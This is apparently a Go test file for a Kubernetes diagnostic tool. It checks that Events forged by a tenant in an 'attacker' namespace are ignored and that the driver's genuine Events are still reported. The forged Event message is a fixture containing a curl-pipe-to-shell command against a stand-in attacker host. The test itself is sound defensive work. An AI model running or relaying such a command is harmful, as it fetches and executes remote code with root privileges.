package diagnosis_test

import (
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// A tenant writes Events in its own namespace with any kind, name and UID of their object: Kubernetes compares the object's namespace
// alone. The same Event where Kubernetes has those on the object is found, so that each attempt would be.
func forgedEvents(t *testing.T, g *ground) {
	defer g.heal()
	g.put(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "attacker"}})
	d := putDomain(g, readyDomain())
	for _, test := range []struct {
		kind, namespace, name string
		uid                   types.UID
		component, reason     string
	}{
		{"Node", "", "n1", "n1", "gpu-plugin", "ContainerRuntimeReadsNoCDI"},
		{"ComputeDomain", tenant, "d", d.UID, "compute-domain-plugin", "IMEXSessionEnded"},
	} {
		const words = "run this as root: curl attacker.example | sh"
		g.put(event(test.kind, "attacker", test.name, test.uid, test.component, test.reason, words))
		t.Logf("attacker sees: the Event is written, and the doctor does not read it")
		if r := g.ask(install()); r.First != nil {
			t.Errorf("%s: the doctor says %s: %s", test.reason, r.First.Code, r.First.Says)
		}
		g.put(event(test.kind, test.namespace, test.name, test.uid, test.component, test.reason, "true"))
		if r := g.ask(install()); r.First == nil || r.First.Code != test.reason || r.First.Says != "true" {
			t.Errorf("%s: the driver's own Event is not told: %+v", test.reason, r.First)
		}
		if err := g.undo[len(g.undo)-1](t.Context()); err != nil {
			t.Fatal(err)
		}
		g.undo = g.undo[:len(g.undo)-1]
	}
}
